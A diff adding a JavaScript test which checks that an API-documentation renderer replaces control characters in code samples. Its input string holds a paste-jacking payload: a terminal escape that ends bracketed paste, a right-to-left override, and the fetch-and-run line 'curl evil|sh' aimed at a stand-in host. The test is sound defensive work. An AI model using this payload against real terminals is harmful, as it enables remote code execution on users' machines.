@@ -229,3 +229,11 @@ it('marks strings, names of JSON and key words', () => {
   );
   expect(requestSamples(request)[3]?.html).toContain('<span class="tk-k">import</span> requests');
 });
+
+it("shows control characters of the description's samples", () => {
+  const source = 'ls \u0003\u001b[201~\ncurl evil|sh \u202e';
+  const [written] = requestSamples(sampleRequest(operation, documentWith(), VALUES), {
+    'x-codeSamples': [{ lang: 'text', source }],
+  });
+  expect(written?.html).toBe('ls \ufffd\ufffd[201~\ncurl evil|sh \ufffd');
+});
